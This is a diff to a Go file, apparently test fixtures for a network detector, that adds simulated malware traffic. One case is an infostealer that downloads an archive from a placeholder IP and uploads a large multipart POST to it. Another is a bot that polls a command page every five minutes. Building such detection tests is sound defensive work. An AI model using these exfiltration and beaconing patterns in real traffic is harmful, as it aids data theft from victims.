@@ -23,6 +23,13 @@ var botWeb = map[string]func(w *wire){
 		w.ask(1, 0, 7, 80, "GET /cfg/config.bin HTTP/1.1\r\nAccept: */*\r\nConnection: Close\r\n"+msie7+"Host: abcdef.com\r\nCache-Control: no-cache\r\n\r\n", binary2k+noise(1, 900))
 		w.ask(3, 600_000, 7, 80, "POST /cfg/gate.php HTTP/1.1\r\nAccept: */*\r\n"+msie7+"Host: abcdef.com\r\nContent-Length: 4\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\nabcd", fine)
 	},
+	"stealer: an archive comes, another goes": func(w *wire) {
+		w.ask(1, 0, 7, 80, "GET /update.zip HTTP/1.1\r\nAccept: */*\r\nHost: 198.51.100.7\r\nConnection: Keep-Alive\r\n\r\n", "HTTP/1.1 200 OK\r\nContent-Type: application/zip\r\nContent-Length: 180000\r\n\r\nPK\x03\x04"+strings.Repeat("\x00", 22)+"\x0b\x00\x00\x00freebl3.dll"+noise(1, 800))
+		w.tcp(inner(5), outside(7), 80, 9_000, up("POST / HTTP/1.1\r\nAccept: */*\r\nHost: 198.51.100.7\r\nContent-Type: multipart/form-data; boundary=----0KF\r\nContent-Length: 60323\r\n\r\n"), up(noise(3, 60_323)), down(fine))
+	},
+	"intruder's page, asked for every five minutes": func(w *wire) {
+		w.ask(9, 300_000, 7, 80, "GET /products/index.htm HTTP/1.1\r\nUser-Agent: Windows+NT+5.1\r\nHost: www.abcdef.com\r\n\r\n", binary2k+noise(1, 900))
+	},
 	"banker: one script for all": func(w *wire) {
 		w.ask(4, 120_000, 7, 80, "POST /x/file.php HTTP/1.1\r\nAccept: */*\r\n"+msie7+"Host: abcdef.com\r\nContent-Length: 4\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\n"+noise(3, 4), binary2k+noise(1, 900))
 	},
